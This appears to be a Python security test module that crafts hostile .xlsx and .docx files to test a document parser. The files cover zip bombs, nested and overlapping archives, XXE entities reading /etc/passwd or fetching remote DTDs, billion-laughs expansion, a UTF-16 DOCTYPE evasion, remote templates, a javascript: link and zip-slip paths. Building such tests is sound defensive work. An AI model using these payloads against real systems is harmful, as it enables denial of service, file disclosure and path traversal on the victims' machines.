"""e01–e15, e36–e39: archives that unpack to more than they are, and XML that reaches beyond itself."""

import bz2
import zipfile

from tests.attacks.base import attack, outside
from tests.attacks.office import (
    DOCUMENT,
    SHARED,
    SHEET,
    Entry,
    Parts,
    crafted,
    deflated_blanks,
    package,
    run,
    shared_strings,
    sheet,
    stored,
    word,
    word_table,
    workbook,
)


def _without(parts: Parts, name: str) -> list[Entry]:
    return [stored(other, part) for other, part in parts.items() if other != name]


@attack(".xlsx")
def e01_bomb_sharedstrings():
    """1 MB whose sharedStrings.xml is a gigabyte"""
    content = deflated_blanks(1024, b"<sst>", b"</sst>")
    parts = workbook(shared="")
    return crafted([*_without(parts, SHARED), Entry(SHARED, content, zipfile.ZIP_DEFLATED, 2**30 + 11)])


@attack(".docx")
def e02_bomb_bzip2():
    """a document.xml packed with bzip2, of which a few bytes make megabytes"""
    content = bz2.compress(b" " * 2**24)
    return crafted([*_without(word(), DOCUMENT), Entry(DOCUMENT, content, zipfile.ZIP_BZIP2, 2**24)])


@attack(".xlsx")
def e03_bomb_lying_sizes():
    """a sheet of 300 MB whose headers claim 4 KB"""
    content = deflated_blanks(300, sheet().encode())
    return crafted([*_without(workbook(), SHEET), Entry(SHEET, content, zipfile.ZIP_DEFLATED, 4096)])


@attack(".docx")
def e04_bomb_overlap():
    """400 entries over one stream of 3 MB: 1.2 GB by the directory (CVE-2024-0450)"""
    shared = Entry("last", deflated_blanks(3), zipfile.ZIP_DEFLATED, 3 * 2**20)
    return crafted([*_without(word(), ""), shared], shared=[f"word/part{at}.xml" for at in range(399)])


@attack(".docx")
def e05_1500_entries():
    """1,500 entries of no use"""
    return package(word() | {f"word/part{at}.xml": "<a/>" for at in range(1500)})


@attack(".xlsx")
def e06_nested_zip():
    """a zip in a zip"""
    return package({"分工表.xlsx": package(workbook())})


def _with_doctype(part: str, doctype: str, entity: str) -> str:
    """A part with a DOCTYPE before it and a reference to an entity in its first text."""
    return doctype + part.replace("市大数据局", f"&{entity};", 1)


_FILE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
_LAUGHS = "<!DOCTYPE x [<!ENTITY a0 'ha'>{}]>".format(
    "".join(f"<!ENTITY a{at} '{f'&a{at - 1};' * 10}'>" for at in range(1, 11))
)
_AGENCIES = shared_strings(["市大数据局"])


@attack(".xlsx")
def e07_xxe_sst():
    """an external entity of this machine's files in sharedStrings"""
    return package(workbook(shared=_with_doctype(_AGENCIES, _FILE, "e")))


@attack(".xlsx")
def e08_xxe_http_sheet():
    """an external DTD over HTTP in the sheet"""
    return package(workbook({"分工": f'<!DOCTYPE x SYSTEM "{outside()}/x.dtd">{sheet()}'}))


@attack(".xlsx")
def e09_billion_laughs():
    """entities that grow tenfold ten times, in sharedStrings"""
    return package(workbook(shared=_with_doctype(_AGENCIES, _LAUGHS, "a10")))


@attack(".xlsx")
def e10_quadratic():
    """one long entity, named 20,000 times"""
    doctype = f"<!DOCTYPE x [<!ENTITY e '{'长' * 20_000}'>]>"
    return package(workbook(shared=doctype + shared_strings(["@"]).replace("@", "&e;" * 20_000)))


@attack(".docx")
def e11_xxe():
    """an external entity of this machine's files in document.xml"""
    parts = word()
    return package(parts | {DOCUMENT: _with_doctype(parts[DOCUMENT], _FILE, "e")})


@attack(".docx")
def e12_billion_laughs():
    """entities that grow tenfold ten times, in document.xml"""
    parts = word()
    return package(parts | {DOCUMENT: _with_doctype(parts[DOCUMENT], _LAUGHS, "a10")})


@attack(".xlsx")
def e13_xxe_utf16():
    """a DOCTYPE that UTF-16 hides from who looks for its bytes"""
    part = '<?xml version="1.0" encoding="UTF-16"?>' + _with_doctype(_AGENCIES, _FILE, "e")
    return package(workbook(shared="") | {SHARED: part.encode("utf-16")})


@attack(".docx")
def e14_external_image():
    """a picture on another host"""
    drawing = (
        '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="rId1"/>'
        "</w:drawing></w:r></w:p>"
    )
    return package(word(drawing + word_table(), external=[("image", f"{outside()}/a.png")]))


@attack(".docx")
def e15_remote_template():
    """a template on another host, and a link that is a script"""
    link = f'<w:p><w:hyperlink r:id="rId2">{run("点这里")}</w:hyperlink></w:p>'
    external = [("attachedTemplate", f"{outside()}/a.dotm"), ("hyperlink", "javascript:alert(1)")]
    return package(word(link + word_table(), external=external))


@attack(".xlsx")
def e36_zip_slip():
    """entries whose names lead out of the folder they are unpacked to"""
    return package(workbook(extra={"../../evil.xml": "<a/>", "/tmp/evil.xml": "<a/>", "C:\\evil.xml": "<a/>"}))


@attack(".xlsx")
def e37_duplicate_entry():
    """two entries of one name, of which readers take either"""
    other = stored(SHEET, sheet([("工作任务", "责任单位"), ("1.任务", "市假局")]))
    return crafted([*_without(workbook(), ""), other])


@attack(".xlsx")
def e38_truncated():
    """a zip cut off"""
    return package(workbook())[:-200]


@attack(".xlsx")
def e39_bitflip():
    """bytes turned over"""
    data = bytearray(package(workbook()))
    at = data.index(SHEET.encode()) + len(SHEET) + 40
    data[at : at + 8] = bytes(byte ^ 0xFF for byte in data[at : at + 8])
    return bytes(data)
